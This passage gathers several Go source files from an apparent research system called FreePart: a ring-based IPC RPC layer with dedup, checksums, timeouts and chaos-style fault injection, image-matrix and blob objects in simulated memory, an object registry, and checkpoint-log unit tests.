	if _, ok := c.done[seq]; ok {
		return
	}
	c.done[seq] = out
	c.order = append(c.order, seq)
	for len(c.order) > c.doneCap {
		delete(c.done, c.order[0])
		c.order = c.order[1:]
	}
}

// Call issues one request and blocks for its response, charging the IPC
// round-trip plus per-byte copy costs to the virtual clock. Application
// errors returned by the handler come back as errors; a crash comes back
// as ErrAgentCrashed.
func (c *Conn) Call(kind uint32, payload []byte) ([]byte, error) {
	seq := c.seq.Add(1)
	return c.callSeq(seq, kind, payload, false)
}

// Retry re-issues a call with its original sequence number after a crash;
// if the agent had already completed it, the dedup cache answers.
func (c *Conn) Retry(seq uint64, kind uint32, payload []byte) ([]byte, error) {
	return c.callSeq(seq, kind, payload, true)
}

// LastSeq returns the most recently assigned sequence number.
func (c *Conn) LastSeq() uint64 { return c.seq.Load() }

func (c *Conn) callSeq(seq uint64, kind uint32, payload []byte, retry bool) ([]byte, error) {
	if err := c.req.Send(Message{Seq: seq, Kind: kind, Payload: payload}); err != nil {
		return nil, err
	}
	for {
		m, err := c.resp.Recv()
		if err != nil {
			return nil, err
		}
		if m.Seq != seq {
			// A response for an abandoned request (e.g. a crash retry
			// overtaking a stale completion); drop it.
			continue
		}
		c.mu.Lock()
		c.stats.Calls++
		if retry {
			c.stats.Retries++
		}
		c.stats.BytesRequest += uint64(len(payload))
		c.stats.BytesResponse += uint64(len(m.Payload))
		c.mu.Unlock()
		if c.clock != nil {
			c.clock.Advance(c.cost.IPCRoundTrip)
			c.clock.Advance(c.cost.CopyCost(len(payload) + len(m.Payload)))
		}
		if m.Kind == respKindCrash {
			return nil, fmt.Errorf("%w: %s", ErrAgentCrashed, m.Payload)
		}
		if len(m.Payload) == 0 {
			return nil, errors.New("ipc: malformed empty response")
		}
		switch m.Payload[0] {
		case '=':
			return m.Payload[1:], nil
		case '!':
			return nil, errors.New(string(m.Payload[1:]))
		default:
			return nil, fmt.Errorf("ipc: malformed response tag %q", m.Payload[0])
		}
	}
}

// Stats returns a snapshot of the RPC counters.
func (c *Conn) Stats() CallStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.stats
}

// RingStats returns traffic counters for the two underlying rings.
func (c *Conn) RingStats() (req, resp RingStats) {
	return c.req.Stats(), c.resp.Stats()
}

// Close shuts down both rings, terminating Serve.
func (c *Conn) Close() {
	c.req.Close()
	c.resp.Close()
}
