package ipc

import (
	"errors"
	"fmt"
	"hash/fnv"
	"sync"
	"sync/atomic"
	"time"

	"freepart.dev/freepart/internal/vclock"
)

// ErrAgentCrashed is returned by Call when the serving side crashed while
// executing the request. The caller (FreePart's restart supervisor) decides
// whether to retry, giving at-least-once semantics.
var ErrAgentCrashed = errors.New("ipc: agent crashed during request")

// ErrTimeout is returned by Call when no response arrived within the call
// deadline, or when fault injection dropped a message. The request may or
// may not have executed; a Retry with the same sequence number is safe
// because the server-side dedup cache absorbs duplicates.
var ErrTimeout = errors.New("ipc: call timed out")

// ErrPeerDead is returned by Call when the peer process is no longer alive
// while the caller is waiting for a response — the bounded-failure guarantee
// for a peer that crashed mid-serve without managing to answer.
var ErrPeerDead = errors.New("ipc: peer process dead")

// ErrCorrupt is returned by Call when a message failed its checksum — the
// payload was damaged in transit. The request was not executed (corrupt
// requests are rejected before dispatch), so a Retry is safe.
var ErrCorrupt = errors.New("ipc: message corrupted in transit")

// Handler executes one request and returns the response payload.
// Returning an error wrapped around ErrAgentCrashed signals that the agent
// process died mid-request.
type Handler func(kind uint32, payload []byte) ([]byte, error)

// MessageFault describes what fault injection does to one message in
// flight. The zero value means "deliver normally".
type MessageFault struct {
	Drop      bool            // message lost; the caller times out
	Duplicate bool            // message delivered twice (dedup must absorb it)
	Corrupt   bool            // payload damaged; checksum catches it
	Stall     vclock.Duration // slow delivery, charged to the virtual clock
}

// Injector decides the fate of messages on a Conn. Implemented by the chaos
// engine; consulted once per request and once per response.
type Injector interface {
	RequestFault(seq uint64, payload []byte) MessageFault
	ResponseFault(seq uint64, payload []byte) MessageFault
}

// CallStats counts RPC activity on a Conn.
type CallStats struct {
	Calls         uint64 // round trips issued
	Retries       uint64 // re-sent requests after a crash
	Dedups        uint64 // duplicate requests absorbed by the server cache
	BytesRequest  uint64
	BytesResponse uint64
}

// Conn is a bidirectional RPC connection between the host process and one
// agent process, built on two rings. The server side runs in its own
// goroutine (Serve); the client side issues synchronous Calls.
//
// Pipelining: calls are seq-multiplexed. A demux goroutine matches each
// response to the outstanding sequence number that is waiting for it, so
// any number of goroutines can have overlapping calls in flight on one
// connection — requests queue in the ring and the agent serves them
// back-to-back without lock-stepping on the caller's round trip.
//
// Exactly-once: every request carries a sequence number; the server caches
// the response to each sequence it has completed, so a retried request
// (sent because the client saw a crash after the agent may or may not have
// finished) is answered from the cache instead of re-executed. Stateless
// re-execution after a genuine crash is the documented at-least-once path.
type Conn struct {
	req  *Ring
	resp *Ring

	clock *vclock.Clock
	cost  vclock.CostModel

	seq atomic.Uint64

	mu        sync.Mutex
	stats     CallStats
	done      map[uint64][]byte // server-side dedup cache
	doneCap   int
	order     []uint64 // insertion order for cache eviction
	inject    Injector
	deadline  time.Duration
	peerAlive func() bool
	pending   map[uint64]*waiter // outstanding calls awaiting a response
	epochs    map[uint64]uint32  // per-sequence attempt counters (retried seqs only)

	demuxOnce sync.Once
	demuxDone chan struct{}
}

// NewConn creates a connection with the given ring capacity. clock may be
// nil to skip virtual-time charging (unit tests).
func NewConn(capacity int, clock *vclock.Clock, cost vclock.CostModel) *Conn {
	return &Conn{
		req:       NewRing(capacity),
		resp:      NewRing(capacity),
		clock:     clock,
		cost:      cost,
		done:      make(map[uint64][]byte),
		doneCap:   1024,
		pending:   make(map[uint64]*waiter),
		epochs:    make(map[uint64]uint32),
		demuxDone: make(chan struct{}),
	}
}

// SetInjector installs (or clears, with nil) the fault injector consulted
// for every message on this connection.
func (c *Conn) SetInjector(i Injector) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.inject = i
}

// SetDeadline bounds how long a Call waits for its response; 0 (the
// default) waits forever. An expired deadline surfaces as ErrTimeout.
func (c *Conn) SetDeadline(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.deadline = d
}

// SetPeerCheck installs a liveness probe for the serving peer. While a Call
// is waiting, a quiet period with alive() == false surfaces as ErrPeerDead —
// a crashed peer fails the call promptly instead of hanging to the deadline.
func (c *Conn) SetPeerCheck(alive func() bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.peerAlive = alive
}

// respKindOK, respKindCrash and respKindCorrupt tag server responses.
const (
	respKindOK uint32 = iota
	respKindCrash
	respKindCorrupt
)

// sum64 is the payload checksum carried in Message.Sum (FNV-1a).
func sum64(p []byte) uint64 {
	h := fnv.New64a()
	_, _ = h.Write(p)
	return h.Sum64()
}

// pollInterval is how often a waiting Call re-checks peer liveness and its
// deadline.
const pollInterval = 20 * time.Millisecond

// startDemux launches the response demultiplexer on first use. Lazy so
// connections that only ever Serve (pure server side) pay nothing.
func (c *Conn) startDemux() {
	c.demuxOnce.Do(func() { go c.demux() })
}

// waiter is one outstanding call: the channel its response arrives on and
// the attempt epoch it belongs to, so demux can drop stale answers to
// abandoned attempts of the same sequence before they occupy the buffer.
type waiter struct {
	ch    chan Message
	epoch uint32
}

// demux is the client side's response-matching loop: every message on the
// response ring is routed to the outstanding call registered under its
// sequence number. Responses for abandoned sequences (a timed-out call
// whose answer arrived late, or a duplicate the dedup cache answered twice)
// and for abandoned attempts (a stale epoch under a retried sequence) are
// dropped. Exits — releasing every waiter — when the ring closes.
func (c *Conn) demux() {
	defer close(c.demuxDone)
	for {
		m, err := c.resp.Recv()
		if err != nil {
			return
		}
		c.mu.Lock()
		w := c.pending[m.Seq]
		c.mu.Unlock()
		if w == nil || w.epoch != m.Epoch {
			continue // nobody is waiting for this attempt anymore
		}
		select {
		case w.ch <- m:
		default:
			// The waiter's buffer already holds an answer for this seq
			// (duplicated response); it needs only one.
		}
	}
}

// await registers seq as outstanding at the given attempt epoch and returns
// the channel its response will arrive on. Must be called before the
// request is sent, so a fast server cannot answer into the void.
func (c *Conn) await(seq uint64, epoch uint32) chan Message {
	c.mu.Lock()
	defer c.mu.Unlock()
	w, ok := c.pending[seq]
	if !ok || w.epoch != epoch {
		w = &waiter{ch: make(chan Message, 1), epoch: epoch}
		c.pending[seq] = w
	}
	return w.ch
}

// abandon deregisters an outstanding sequence; late responses for it are
// dropped by demux.
func (c *Conn) abandon(seq uint64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	delete(c.pending, seq)
}

// waitResponse blocks until the response for seq arrives on ch, honoring
// the call deadline and the peer-liveness probe.
func (c *Conn) waitResponse(seq uint64, ch chan Message, deadline time.Duration, alive func() bool) (Message, error) {
	if deadline <= 0 && alive == nil {
		select {
		case m := <-ch:
			return m, nil
		case <-c.demuxDone:
			return Message{}, ErrClosed
		}
	}
	start := time.Now()
	for {
		poll := pollInterval
		if deadline > 0 {
			remain := deadline - time.Since(start)
			if remain <= 0 {
				return Message{}, fmt.Errorf("%w: seq %d after %v", ErrTimeout, seq, deadline)
			}
			if remain < poll {
				poll = remain
			}
		}
		t := time.NewTimer(poll)
		select {
		case m := <-ch:
			t.Stop()
			return m, nil
		case <-c.demuxDone:
			t.Stop()
			return Message{}, ErrClosed
		case <-t.C:
			if alive != nil && !alive() {
				return Message{}, fmt.Errorf("%w: seq %d", ErrPeerDead, seq)
			}
		}
	}
}

// Serve runs the server loop: receive, verify, execute (with dedup),
// respond. It returns when the request ring is closed. Run it in a
// goroutine.
func (c *Conn) Serve(h Handler) {
	for {
		m, err := c.req.Recv()
		if err != nil {
			return
		}
		if sum64(m.Payload) != m.Sum {
			// Damaged in transit: reject before dispatch so a Retry with
			// the same sequence can still execute exactly once.
			out := []byte("request checksum mismatch")
			_ = c.resp.Send(Message{Seq: m.Seq, Kind: respKindCorrupt, Sum: sum64(out), Epoch: m.Epoch, Payload: out})
			continue
		}
		c.mu.Lock()
		cached, dup := c.done[m.Seq]
		if dup {
			c.stats.Dedups++
		}
		c.mu.Unlock()
		if dup {
			_ = c.resp.Send(Message{Seq: m.Seq, Kind: respKindOK, Sum: sum64(cached), Epoch: m.Epoch, Payload: cached})
			continue
		}
		out, err := h(m.Kind, m.Payload)
		if err != nil && errors.Is(err, ErrAgentCrashed) {
			p := []byte(err.Error())
			_ = c.resp.Send(Message{Seq: m.Seq, Kind: respKindCrash, Sum: sum64(p), Epoch: m.Epoch, Payload: p})
			continue
		}
		if err != nil {
			// Application-level errors travel as payloads; the RPC layer
			// only distinguishes success from crash.
			out = append([]byte("!"), []byte(err.Error())...)
		} else {
			out = append([]byte("="), out...)
		}
		c.remember(m.Seq, out)
		_ = c.resp.Send(Message{Seq: m.Seq, Kind: respKindOK, Sum: sum64(out), Epoch: m.Epoch, Payload: out})
	}
}

// remember stores a completed response for dedup, evicting oldest entries.
func (c *Conn) remember(seq uint64, out []byte) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, ok := c.done[seq]; ok {
		return
	}
	c.done[seq] = out
	c.order = append(c.order, seq)
	for len(c.order) > c.doneCap {
		delete(c.done, c.order[0])
		c.order = c.order[1:]
	}
}

// Call issues one request and blocks for its response, charging the IPC
// round-trip plus per-byte copy costs to the virtual clock. Application
// errors returned by the handler come back as errors; a crash comes back
// as ErrAgentCrashed.
func (c *Conn) Call(kind uint32, payload []byte) ([]byte, error) {
	return c.callSeq(c.NextSeq(), kind, payload, false)
}

// NextSeq reserves and returns a fresh sequence number, for callers that
// need to know the sequence before issuing the request (CallSeq + Retry).
func (c *Conn) NextSeq() uint64 { return c.seq.Add(1) }

// CallSeq issues a request under a sequence number previously reserved with
// NextSeq, so the caller can Retry the identical sequence after a failure.
func (c *Conn) CallSeq(seq uint64, kind uint32, payload []byte) ([]byte, error) {
	return c.callSeq(seq, kind, payload, false)
}

// Retry re-issues a call with its original sequence number after a crash;
// if the agent had already completed it, the dedup cache answers.
func (c *Conn) Retry(seq uint64, kind uint32, payload []byte) ([]byte, error) {
	return c.callSeq(seq, kind, payload, true)
}

// LastSeq returns the most recently assigned sequence number.
func (c *Conn) LastSeq() uint64 { return c.seq.Load() }

func (c *Conn) callSeq(seq uint64, kind uint32, payload []byte, retry bool) ([]byte, error) {
	c.startDemux()
	c.mu.Lock()
	inject, deadline, alive := c.inject, c.deadline, c.peerAlive
	epoch := c.epochs[seq]
	if retry {
		// A new attempt under the same sequence: stale answers to the
		// abandoned attempt (e.g. a crash notification still in flight)
		// must not be mistaken for this one's response.
		epoch++
		c.epochs[seq] = epoch
	}
	c.mu.Unlock()

	// Register before sending: a fast server must find the waiter in place.
	ch := c.await(seq, epoch)
	defer c.abandon(seq)

	send := payload
	if inject != nil {
		f := inject.RequestFault(seq, payload)
		if f.Stall > 0 && c.clock != nil {
			c.clock.Advance(f.Stall)
		}
		if f.Drop {
			if c.clock != nil {
				c.clock.Advance(c.cost.IPCTimeout)
			}
			return nil, fmt.Errorf("%w: request seq %d lost", ErrTimeout, seq)
		}
		if f.Corrupt {
			send = corrupted(payload)
		}
		// Sum covers the payload as intended, so corruption is detectable.
		m := Message{Seq: seq, Kind: kind, Sum: sum64(payload), Epoch: epoch, Payload: send}
		if err := c.req.Send(m); err != nil {
			return nil, err
		}
		if f.Duplicate {
			if err := c.req.Send(m); err != nil {
				return nil, err
			}
		}
	} else {
		if err := c.req.Send(Message{Seq: seq, Kind: kind, Sum: sum64(payload), Epoch: epoch, Payload: payload}); err != nil {
			return nil, err
		}
	}

	m, err := c.waitResponse(seq, ch, deadline, alive)
	if err != nil {
		return nil, err
	}
	if m.Kind == respKindCrash {
		// A crash notification is control-plane bookkeeping, not a data
		// message: it consumes no injector decision and charges nothing.
		// That keeps the two ways a caller can observe the same crash —
		// this notification, or the peer-liveness probe firing first when
		// the notification is still in flight — byte-identical in both the
		// injection decision stream and the virtual clock, so a replay
		// cannot diverge on which one won the (real-time) race.
		return nil, fmt.Errorf("%w: %s", ErrAgentCrashed, m.Payload)
	}
	if inject != nil {
		f := inject.ResponseFault(seq, m.Payload)
		if f.Stall > 0 && c.clock != nil {
			c.clock.Advance(f.Stall)
		}
		if f.Drop {
			if c.clock != nil {
				c.clock.Advance(c.cost.IPCTimeout)
			}
			return nil, fmt.Errorf("%w: response seq %d lost", ErrTimeout, seq)
		}
		if f.Corrupt {
			m.Payload = corrupted(m.Payload)
		}
	}
	c.mu.Lock()
	c.stats.Calls++
	if retry {
		c.stats.Retries++
	}
	c.stats.BytesRequest += uint64(len(payload))
	c.stats.BytesResponse += uint64(len(m.Payload))
	c.mu.Unlock()
	if c.clock != nil {
		c.clock.Advance(c.cost.IPCRoundTrip)
		c.clock.Advance(c.cost.CopyCost(len(payload) + len(m.Payload)))
	}
	if m.Kind == respKindCorrupt || sum64(m.Payload) != m.Sum {
		return nil, fmt.Errorf("%w: seq %d", ErrCorrupt, seq)
	}
	// The response was accepted: no further attempts will reuse this seq,
	// so its attempt counter can go.
	c.mu.Lock()
	delete(c.epochs, seq)
	c.mu.Unlock()
	if len(m.Payload) == 0 {
		return nil, errors.New("ipc: malformed empty response")
	}
	switch m.Payload[0] {
	case '=':
		return m.Payload[1:], nil
	case '!':
		return nil, errors.New(string(m.Payload[1:]))
	default:
		return nil, fmt.Errorf("ipc: malformed response tag %q", m.Payload[0])
	}
}

// InFlight reports how many calls are currently outstanding (pipelined) on
// this connection.
func (c *Conn) InFlight() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.pending)
}

// corrupted returns a copy of p with one byte flipped (or a poison byte for
// empty payloads), simulating in-transit damage without touching the
// caller's buffer.
func corrupted(p []byte) []byte {
	if len(p) == 0 {
		return []byte{0xFF}
	}
	out := make([]byte, len(p))
	copy(out, p)
	out[len(out)/2] ^= 0xFF
	return out
}

// Stats returns a snapshot of the RPC counters.
func (c *Conn) Stats() CallStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.stats
}

// RingStats returns traffic counters for the two underlying rings.
func (c *Conn) RingStats() (req, resp RingStats) {
	return c.req.Stats(), c.resp.Stats()
}

// Close shuts down both rings, terminating Serve.
func (c *Conn) Close() {
	c.req.Close()
	c.resp.Close()
}
