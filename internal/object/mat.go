package object

import (
	"encoding/binary"
	"fmt"

	"freepart.dev/freepart/internal/mem"
)

// Mat is an image matrix, modeled on OpenCV's cv::Mat: a header (shape)
// plus a payload buffer in simulated memory holding row-major
// rows×cols×channels bytes.
type Mat struct {
	rows, cols, channels int
	space                *mem.AddressSpace
	region               mem.Region
}

// NewMat allocates a zeroed rows×cols×channels image in space.
func NewMat(space *mem.AddressSpace, rows, cols, channels int) (*Mat, error) {
	if rows <= 0 || cols <= 0 || channels <= 0 {
		return nil, fmt.Errorf("object: invalid mat shape %dx%dx%d", rows, cols, channels)
	}
	r, err := space.Alloc(rows * cols * channels)
	if err != nil {
		return nil, err
	}
	return &Mat{rows: rows, cols: cols, channels: channels, space: space, region: r}, nil
}

// MatFromBytes allocates a mat and fills it with data (len must equal
// rows*cols*channels).
func MatFromBytes(space *mem.AddressSpace, rows, cols, channels int, data []byte) (*Mat, error) {
	if len(data) != rows*cols*channels {
		return nil, fmt.Errorf("object: mat data %d bytes, shape wants %d", len(data), rows*cols*channels)
	}
	m, err := NewMat(space, rows, cols, channels)
	if err != nil {
		return nil, err
	}
	if err := space.Store(m.region.Base, data); err != nil {
		return nil, err
	}
	return m, nil
}

// Kind implements Object.
func (m *Mat) Kind() Kind { return KindMat }

// Space implements Object.
func (m *Mat) Space() *mem.AddressSpace { return m.space }

// Region implements Object.
func (m *Mat) Region() mem.Region { return m.region }

// Rows returns the image height.
func (m *Mat) Rows() int { return m.rows }

// Cols returns the image width.
func (m *Mat) Cols() int { return m.cols }

// Channels returns the number of channels.
func (m *Mat) Channels() int { return m.channels }

// Size returns the payload size in bytes.
func (m *Mat) Size() int { return m.rows * m.cols * m.channels }

// Header encodes the shape for reconstruction after transfer.
func (m *Mat) Header() []byte {
	b := make([]byte, 0, 12)
	b = binary.BigEndian.AppendUint32(b, uint32(m.rows))
	b = binary.BigEndian.AppendUint32(b, uint32(m.cols))
	b = binary.BigEndian.AppendUint32(b, uint32(m.channels))
	return b
}

// MatShapeFromHeader decodes a Mat header.
func MatShapeFromHeader(h []byte) (rows, cols, channels int, err error) {
	if len(h) != 12 {
		return 0, 0, 0, fmt.Errorf("object: bad mat header length %d", len(h))
	}
	return int(binary.BigEndian.Uint32(h[0:4])),
		int(binary.BigEndian.Uint32(h[4:8])),
		int(binary.BigEndian.Uint32(h[8:12])), nil
}

// offset computes the payload offset of a pixel channel.
func (m *Mat) offset(row, col, ch int) (mem.Addr, error) {
	if row < 0 || row >= m.rows || col < 0 || col >= m.cols || ch < 0 || ch >= m.channels {
		return 0, fmt.Errorf("object: pixel (%d,%d,%d) out of %dx%dx%d", row, col, ch, m.rows, m.cols, m.channels)
	}
	return m.region.Base + mem.Addr((row*m.cols+col)*m.channels+ch), nil
}

// At reads one pixel channel through the MMU (permission-checked).
func (m *Mat) At(row, col, ch int) (byte, error) {
	a, err := m.offset(row, col, ch)
	if err != nil {
		return 0, err
	}
	return m.space.LoadByte(a)
}

// Set writes one pixel channel through the MMU (permission-checked).
func (m *Mat) Set(row, col, ch int, v byte) error {
	a, err := m.offset(row, col, ch)
	if err != nil {
		return err
	}
	return m.space.StoreByte(a, v)
}

// Row reads an entire row (all columns and channels).
func (m *Mat) Row(row int) ([]byte, error) {
	if row < 0 || row >= m.rows {
		return nil, fmt.Errorf("object: row %d out of %d", row, m.rows)
	}
	return m.space.Load(m.region.Base+mem.Addr(row*m.cols*m.channels), m.cols*m.channels)
}

// SetRow writes an entire row.
func (m *Mat) SetRow(row int, data []byte) error {
	if row < 0 || row >= m.rows || len(data) != m.cols*m.channels {
		return fmt.Errorf("object: bad row write")
	}
	return m.space.Store(m.region.Base+mem.Addr(row*m.cols*m.channels), data)
}

// CloneInto deep-copies the mat into dst (possibly a different space) —
// the "deep copy of the object when its reference is passed" of §4.3.
func (m *Mat) CloneInto(dst *mem.AddressSpace) (*Mat, error) {
	data, err := PayloadBytes(m)
	if err != nil {
		return nil, err
	}
	return MatFromBytes(dst, m.rows, m.cols, m.channels, data)
}

// String describes the mat.
func (m *Mat) String() string {
	return fmt.Sprintf("Mat(%dx%dx%d @%#x)", m.rows, m.cols, m.channels, uint64(m.region.Base))
}
