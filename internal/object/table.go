package object

import (
	"fmt"
	"sync"

	"freepart.dev/freepart/internal/mem"
)

// Blob is an untyped byte buffer in simulated memory (model weights, CSV
// rows, protobufs, ...).
type Blob struct {
	space  *mem.AddressSpace
	region mem.Region
	n      int
}

// NewBlob allocates a blob holding data.
func NewBlob(space *mem.AddressSpace, data []byte) (*Blob, error) {
	if len(data) == 0 {
		return nil, fmt.Errorf("object: empty blob")
	}
	r, err := space.Alloc(len(data))
	if err != nil {
		return nil, err
	}
	if err := space.Store(r.Base, data); err != nil {
		return nil, err
	}
	return &Blob{space: space, region: r, n: len(data)}, nil
}

// Kind implements Object.
func (b *Blob) Kind() Kind { return KindBlob }

// Space implements Object.
func (b *Blob) Space() *mem.AddressSpace { return b.space }

// Region implements Object.
func (b *Blob) Region() mem.Region { return b.region }

// Size returns the payload size.
func (b *Blob) Size() int { return b.n }

// Header is empty for blobs.
func (b *Blob) Header() []byte { return nil }

// Bytes loads the blob contents through the MMU.
func (b *Blob) Bytes() ([]byte, error) { return PayloadBytes(b) }

// CloneInto deep-copies the blob into dst.
func (b *Blob) CloneInto(dst *mem.AddressSpace) (*Blob, error) {
	data, err := b.Bytes()
	if err != nil {
		return nil, err
	}
	return NewBlob(dst, data)
}

// Table is a process-local registry of objects, giving each an ID stable
// across RPC boundaries. Safe for concurrent use.
type Table struct {
	pid uint32

	mu     sync.Mutex
	nextID uint64
	objs   map[uint64]Object
}

// NewTable creates a table owned by the process with the given pid.
func NewTable(pid uint32) *Table {
	return &Table{pid: pid, nextID: 1, objs: make(map[uint64]Object)}
}

// PID returns the owning process id.
func (t *Table) PID() uint32 { return t.pid }

// Put registers an object and returns its id (the map_set of Fig. 10-(c)).
func (t *Table) Put(o Object) uint64 {
	t.mu.Lock()
	defer t.mu.Unlock()
	id := t.nextID
	t.nextID++
	t.objs[id] = o
	return id
}

// Get looks up an object by id (the map_get of Fig. 10-(c)).
func (t *Table) Get(id uint64) (Object, bool) {
	t.mu.Lock()
	defer t.mu.Unlock()
	o, ok := t.objs[id]
	return o, ok
}

// Delete removes an object from the table.
func (t *Table) Delete(id uint64) {
	t.mu.Lock()
	defer t.mu.Unlock()
	delete(t.objs, id)
}

// Len reports the number of registered objects.
func (t *Table) Len() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return len(t.objs)
}

// Clear drops every entry (used when a process restarts with a fresh
// address space: old objects are unreachable by design).
func (t *Table) Clear() {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.objs = make(map[uint64]Object)
}

// NextID reports the id the allocator would hand out next.
func (t *Table) NextID() uint64 {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.nextID
}

// SkipTo advances the allocator so ids below id are never handed out.
// Restart paths use it to keep object ids unique across process
// incarnations: if a fresh incarnation's table reused ids the previous one
// published in refs, the post-restart remap table would misroute the new
// incarnation's refs to restored checkpoints of unrelated objects.
func (t *Table) SkipTo(id uint64) {
	t.mu.Lock()
	defer t.mu.Unlock()
	if id > t.nextID {
		t.nextID = id
	}
}

// RefFor builds a cross-process Ref for a registered object.
func (t *Table) RefFor(id uint64) (Ref, error) {
	o, ok := t.Get(id)
	if !ok {
		return Ref{}, fmt.Errorf("object: no object %d in table of pid %d", id, t.pid)
	}
	h, err := ContentHash(o)
	if err != nil {
		return Ref{}, err
	}
	return Ref{
		PID:    t.pid,
		ID:     id,
		Size:   o.Region().Size,
		Kind:   o.Kind(),
		Hash:   h,
		Header: o.Header(),
	}, nil
}

// Rebuild materializes an object of the ref's kind in space from raw
// payload bytes (the receiving side of a data copy).
func Rebuild(space *mem.AddressSpace, ref Ref, payload []byte) (Object, error) {
	switch ref.Kind {
	case KindMat:
		rows, cols, ch, err := MatShapeFromHeader(ref.Header)
		if err != nil {
			return nil, err
		}
		return MatFromBytes(space, rows, cols, ch, payload)
	case KindTensor:
		shape, err := TensorShapeFromHeader(ref.Header)
		if err != nil {
			return nil, err
		}
		nt, err := NewTensor(space, shape...)
		if err != nil {
			return nil, err
		}
		if len(payload) != nt.Size() {
			return nil, fmt.Errorf("object: tensor payload %d bytes, want %d", len(payload), nt.Size())
		}
		if err := space.Store(nt.Region().Base, payload); err != nil {
			return nil, err
		}
		return nt, nil
	case KindBlob:
		return NewBlob(space, payload)
	default:
		return nil, fmt.Errorf("object: unknown kind %v", ref.Kind)
	}
}
