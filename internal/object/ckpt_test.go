package object

import (
	"bytes"
	"fmt"
	"sync"
	"testing"

	"freepart.dev/freepart/internal/mem"
)

func TestCheckpointLogVersioning(t *testing.T) {
	l := NewCheckpointLog()
	key := CheckpointKey{Session: 3, Type: 2, Slot: Slot(4, 9)}

	l.Append(key, KindBlob, nil, []byte("v1"))
	l.Append(key, KindBlob, nil, []byte("v2"))

	cp, ok := l.Latest(key)
	if !ok {
		t.Fatal("latest not found")
	}
	if cp.Version != 2 || !bytes.Equal(cp.Payload, []byte("v2")) {
		t.Fatalf("latest = v%d %q, want v2 \"v2\"", cp.Version, cp.Payload)
	}
	st := l.Stats()
	if st.Appends != 2 || st.Keys != 1 {
		t.Fatalf("stats = %+v, want 2 appends over 1 key", st)
	}
}

func TestCheckpointLogCopiesPayload(t *testing.T) {
	l := NewCheckpointLog()
	key := CheckpointKey{Session: 1, Type: 1, Slot: Slot(2, 1)}
	buf := []byte("state")
	l.Append(key, KindBlob, nil, buf)
	buf[0] = 'X' // caller mutates its buffer after the append

	cp, _ := l.Latest(key)
	if !bytes.Equal(cp.Payload, []byte("state")) {
		t.Fatalf("log shares caller memory: %q", cp.Payload)
	}
	// And the returned copy must not alias the log's internal storage.
	cp.Payload[0] = 'Y'
	cp2, _ := l.Latest(key)
	if !bytes.Equal(cp2.Payload, []byte("state")) {
		t.Fatalf("returned checkpoint aliases log storage: %q", cp2.Payload)
	}
}

func TestCheckpointLogLatestSlot(t *testing.T) {
	l := NewCheckpointLog()
	l.Append(CheckpointKey{Session: 1, Type: 2, Slot: Slot(4, 7)}, KindBlob, nil, []byte("a"))
	l.Append(CheckpointKey{Session: 2, Type: 2, Slot: Slot(4, 7)}, KindBlob, nil, []byte("b"))

	cp, ok := l.LatestSlot(1, Slot(4, 7))
	if !ok || !bytes.Equal(cp.Payload, []byte("a")) {
		t.Fatalf("LatestSlot crossed sessions: ok=%v payload=%q", ok, cp.Payload)
	}
	if _, ok := l.LatestSlot(1, Slot(4, 8)); ok {
		t.Fatal("found a checkpoint for a slot never written")
	}
}

func TestCheckpointLogSessionOrdering(t *testing.T) {
	l := NewCheckpointLog()
	l.Append(CheckpointKey{Session: 5, Type: 3, Slot: Slot(6, 2)}, KindBlob, nil, []byte("x"))
	l.Append(CheckpointKey{Session: 5, Type: 1, Slot: Slot(2, 9)}, KindBlob, nil, []byte("y"))
	l.Append(CheckpointKey{Session: 5, Type: 1, Slot: Slot(2, 4)}, KindBlob, nil, []byte("z"))
	l.Append(CheckpointKey{Session: 6, Type: 1, Slot: Slot(2, 4)}, KindBlob, nil, []byte("other"))

	got := l.Session(5)
	if len(got) != 3 {
		t.Fatalf("session 5 has %d checkpoints, want 3", len(got))
	}
	// Sorted by type, then slot — a deterministic materialization order.
	if got[0].Key.Slot != Slot(2, 4) || got[1].Key.Slot != Slot(2, 9) || got[2].Key.Type != 3 {
		t.Fatalf("session order = %v", []CheckpointKey{got[0].Key, got[1].Key, got[2].Key})
	}
}

func TestCheckpointLogCompactBoundedMemory(t *testing.T) {
	// A long-running stateful service checkpoints every stateful call, so
	// version history grows without bound unless compaction holds retained
	// versions at one per live key. Simulate many update rounds over a
	// fixed key set, compacting periodically the way the control plane
	// does after each migration wave.
	l := NewCheckpointLog()
	keys := make([]CheckpointKey, 8)
	for i := range keys {
		keys[i] = CheckpointKey{Session: i % 4, Type: 2, Slot: Slot(3, uint64(i))}
	}
	for round := 0; round < 100; round++ {
		for _, k := range keys {
			l.Append(k, KindBlob, nil, []byte{byte(round), byte(k.Session)})
		}
		if round%10 == 9 {
			st := l.Compact()
			if st.Kept != len(keys) {
				t.Fatalf("round %d: kept %d versions, want %d", round, st.Kept, len(keys))
			}
			if got := l.Len(); got != len(keys) {
				t.Fatalf("round %d: log retains %d versions after compaction, want %d", round, got, len(keys))
			}
		}
	}
	// Compaction must never lose the newest version.
	for _, k := range keys {
		cp, ok := l.Latest(k)
		if !ok || cp.Payload[0] != 99 {
			t.Fatalf("key %v: latest after compaction = %v %v, want round-99 payload", k, ok, cp.Payload)
		}
	}
	// An already-compact log is a no-op pass.
	if st := l.Compact(); st.Retired != 0 {
		t.Fatalf("second compaction retired %d versions, want 0", st.Retired)
	}
	st := l.Stats()
	if st.Appends != 800 || st.Retired == 0 {
		t.Fatalf("stats = %+v, want 800 appends and a nonzero retire count", st)
	}
}

func TestCheckpointMaterialize(t *testing.T) {
	l := NewCheckpointLog()
	key := CheckpointKey{Session: 0, Type: 2, Slot: Slot(3, 1)}
	src := mem.NewSpace()
	orig, err := NewBlob(src, []byte("payload-bytes"))
	if err != nil {
		t.Fatal(err)
	}
	pl, err := PayloadBytes(orig)
	if err != nil {
		t.Fatal(err)
	}
	l.Append(key, orig.Kind(), orig.Header(), pl)

	cp, _ := l.Latest(key)
	dst := mem.NewSpace()
	o, err := cp.Materialize(dst)
	if err != nil {
		t.Fatal(err)
	}
	got, err := PayloadBytes(o)
	if err != nil {
		t.Fatal(err)
	}
